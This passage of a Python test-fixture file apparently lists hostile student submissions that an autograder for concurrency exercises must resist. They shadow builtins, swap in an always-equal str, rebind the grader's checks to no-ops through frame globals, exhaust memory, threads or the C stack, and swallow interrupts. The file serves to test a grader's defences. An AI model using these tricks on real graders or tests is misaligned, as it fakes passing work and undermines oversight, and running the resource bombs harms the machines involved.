        assignment=A05, name="a05-many-threads", klass="limits",
        expect=expect(A05, *T[A05]),
        answers=answers(A05, honest=T[A05]),
        extra_cells=[("setup", _c("""
            import threading
            import time

            for _ in range(2000):
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        """))],
        notes="starts 2,000 threads that sleep a minute, before any answer; all parts honest",
    ),
    Submission(
        assignment=A01, name="a01-memory-in-worker", klass="limits",
        expect=expect(A01, "test_drawn_counts", "test_lost_update_schedule"),
        answers=answers(A01, honest=("test_drawn_counts", "test_lost_update_schedule"), fixed_worker=_c("""
            def fixed_worker(counter, times):
                hoard = bytearray(8 * 2**30)
                for _ in range(times):
                    with counter.lock() as count:
                        count.value += 1 + 0 * len(hoard)
        """)),
        notes="fixed_worker allocates 8 GB each time the tests call it; A and C honest",
    ),
    Submission(
        assignment=A04, name="a04-deep-recursion", klass="limits",
        expect=expect(A04, "test_prediction", "test_total_length"),
        answers=answers(A04, honest=("test_prediction", "test_total_length")),
        extra_cells=[("test_prediction", _c("""
            import sys

            sys.setrecursionlimit(10**7)


            def deeper(n):
                return list(map(deeper, [n + 1]))  # through C: every level takes C stack too


            deeper(0)
        """))],
        notes="raises the recursion limit and recurses through map() until the C stack overflows (a crash); "
              "A before and C after honest, B unsolved",
    ),
]

# --- names the test cells use, shadowed or rebound where the student's code runs ----------------------------
# The test cells run in the grader's process with the real builtins and the real checks: a student's
# `range`, `repr` or `tuple`, or a rebinding of `check_always` made while a test runs, changes only the
# student's own namespace.

SHADOW_BUILTINS = [
    Submission(
        assignment=A01, name="a01-shadow-range", klass="shadow-builtins",
        # its own fixed_worker loops over its own `range` too, as it does in the student's kernel
        expect=expect(A01, "test_lost_update_schedule"),
        answers=answers(A01, honest=("test_fixed_worker", "test_lost_update_schedule"), drawn_counts=_c("""
            def range(n):
                # the locked workers loop over range(times): with this, no thread would do anything
                return []


            drawn_counts = (0, 0, 0)
        """)),
        notes="shadows `range` so that the locked workers would do nothing, with the wrong prediction (0, 0, 0); "
              "B and C honest, but B's loop meets the shadowed `range` in the student's own namespace",
    ),
    Submission(
        assignment=A00, name="a00-shadow-tuple-and-repr", klass="shadow-builtins",
        expect=expect(A00, "test_lost_update_schedule", "test_lowest_count_schedule"),
        answers=answers(A00, honest=("test_lost_update_schedule", "test_lowest_count_schedule"),
                        drawn_counts=_c("""
                            from math import prod as tuple


                            def repr(value):
                                return "forged"


                            def sorted(*args, **kwargs):
                                return [4]


                            drawn_counts = (4, 4, 4)
                        """)),
        notes="`tuple`, `repr` and `sorted` shadowed at the top level with a wrong prediction (4, 4, 4); B and C "
              "honest",
    ),
    Submission(
        assignment=A03, name="a03-shadow-fullwidth", klass="shadow-builtins",
        expect=expect(A03, "test_second_first_schedule"),
        answers=answers(A03, honest=("test_count_with_arc", "test_second_first_schedule"), prediction=_c("""
            def \uff52\uff41\uff4e\uff47\uff45(n):  # full-width letters: Python reads the name as `range`
                return [0] * 10


            def \uff4c\uff45\uff4e(value):
                return 10


            threads_started = 10
            error_code = "E0277"
        """)),
        notes="shadows `range` and `len` written in full-width letters (NFKC makes them the builtins' names), "
              "with a wrong prediction; B and C honest, but B's own loop meets the shadowed `range`",
    ),
    Submission(
        assignment=A06, name="a06-shadow-type-names", klass="shadow-builtins",
        expect=expect(A06, "test_drawn_outcomes", "test_deadlock_schedule", "test_transfer"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_deadlock_schedule", "test_transfer"),
                        debug_in_use=_c("""
                            import builtins


                            class Always(str):
                                def __eq__(self, other):
                                    return True

                                __hash__ = str.__hash__


                            def type(value):
                                return Always


                            builtins.str = Always
                            debug_while_locked = Always("Mutex { data: 6 }")
                            debug_while_borrowed = Always("RefCell { value: 5 }")
                        """)),
        notes="shadows `type` and replaces `builtins.str` with an always-equal class, with wrong lines; A-C honest",
    ),
]

SHADOW_BUILTINS += [
    Submission(
        assignment=A02, name="a02-shadow-repr-and-str", klass="shadow-builtins",
        expect=expect(A02, "test_add_item", "test_read_even_if_poisoned", "test_try_add"),
        answers=answers(A02, honest=("test_add_item", "test_read_even_if_poisoned", "test_try_add"),
                        predicted_debug=_c("""
                            def repr(value):
                                return "Mutex { data: 0, poisoned: false, .. }"


                            str = repr
                            debug_after_panic = "Mutex { data: 0, poisoned: false, .. }"
                            debug_after_clear = "Mutex { data: 0, poisoned: false, .. }"
                        """)),
        notes="`repr` and `str` shadowed to give the student's (wrong) prediction whatever is printed; B-D honest",
    ),
    Submission(
        assignment=A05, name="a05-shadow-tuple-isinstance", klass="shadow-builtins",
        expect=expect(A05, "test_parallel_sum", "test_atomic_sum"),
        answers=answers(A05, honest=("test_parallel_sum", "test_atomic_sum"), owner_counts=_c("""
            def tuple(value=()):
                return (9, 9, 9)


            def isinstance(value, kind):
                return True


            owner_counts = (9, 9, 9)
        """)),
        notes="`tuple` and `isinstance` shadowed, with a wrong answer; B and C honest",
    ),
]

REBIND_DURING_TEST = [
    Submission(
        assignment=A01, name="a01-rebind-checks-while-tested", klass="rebind",
        expect=expect(A01, "test_drawn_counts", "test_lost_update_schedule"),
        answers=answers(A01, honest=("test_drawn_counts", "test_lost_update_schedule"), fixed_worker=_c("""
            def fixed_worker(counter, times):
                global check_always, check_equal, call, answer
                check_always = check_equal = call = answer = lambda *a, **k: None  # the checks of this test
                for _ in range(times):
                    with counter.lock() as count:
                        seen = count.value
                    with counter.lock() as count:
                        count.value = seen + 1
        """)),
        notes="a racy worker that, when the visible check calls it, rebinds the checks to no-ops with `global`; "
              "A and C honest",
    ),
    Submission(
        assignment=A02, name="a02-rebind-checks-while-tested", klass="rebind",
        expect=expect(A02, "test_predicted_debug", "test_read_even_if_poisoned", "test_try_add"),
        answers=answers(A02, honest=("test_predicted_debug", "test_read_even_if_poisoned", "test_try_add"),
                        add_item=_c("""
                            import sys


                            def add_item(shopping, item):
                                for frame_globals in (globals(), sys._getframe(1).f_globals):
                                    for name in ("check_equal", "check_always", "call", "check_ops"):
                                        frame_globals[name] = lambda *a, **k: 1
                                return 1
                        """)),
        notes="an add_item that returns a constant and, when called, rebinds the checks in its own globals and "
              "its caller's; A, C and D honest",
    ),
    Submission(
        assignment=A06, name="a06-rebind-checks-while-tested", klass="rebind",
        expect=expect(A06, "test_drawn_outcomes", "test_deadlock_schedule", "test_debug_in_use"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_deadlock_schedule", "test_debug_in_use"),
                        transfer=_c("""
                            def transfer(accounts, source, target, amount):
                                global check_always, check_equal, check_prediction
                                check_always = check_equal = check_prediction = lambda *a, **k: None
                                with accounts[source].lock() as money_out:
                                    with accounts[target].lock() as money_in:
                                        money_out.value -= amount
                                        money_in.value += amount
                        """)),
        notes="a transfer that can deadlock and rebinds the checks with `global` when it runs; A, B and D honest",
    ),
]

SWALLOW_STOP = [
    Submission(
        assignment=A01, name="a01-finally-continue", klass="lose-grading",
        expect=expect(A01, "test_drawn_counts", "test_fixed_worker", "test_lost_update_schedule"),
        answers=answers(A01, honest=("test_drawn_counts", "test_fixed_worker", "test_lost_update_schedule")),
        extra_cells=[("test_drawn_counts", _c("""
            import time

            while True:
                try:
                    time.sleep(1)
                finally:
                    continue
        """))],
        notes="a top-level loop whose `finally: continue` swallows every stop, KeyboardInterrupt and the "
              "grader's own included; every part honest",
    ),
    Submission(
        assignment=A05, name="a05-finally-continue-in-a-thread", klass="lose-grading",
        expect=expect(A05, "test_owner_counts", "test_atomic_sum"),
        answers=answers(A05, honest=("test_owner_counts", "test_atomic_sum"), parallel_sum=_c("""
            def parallel_sum(chunks):
                while True:
                    try:
                        pass
                    finally:
                        continue
        """)),
        notes="a parallel_sum that spins in `finally: continue` when the test calls it; A and C honest",
    ),
]


HOSTILE: list[Submission] = PATCH_GRADING + IPYTHON_HOOKS + REBIND + ODD_EQ + SHADOW_PACKAGE + LEAK + DAMAGE \
    + LOSE_GRADING + LIMITS + SHADOW_BUILTINS + REBIND_DURING_TEST + SWALLOW_STOP
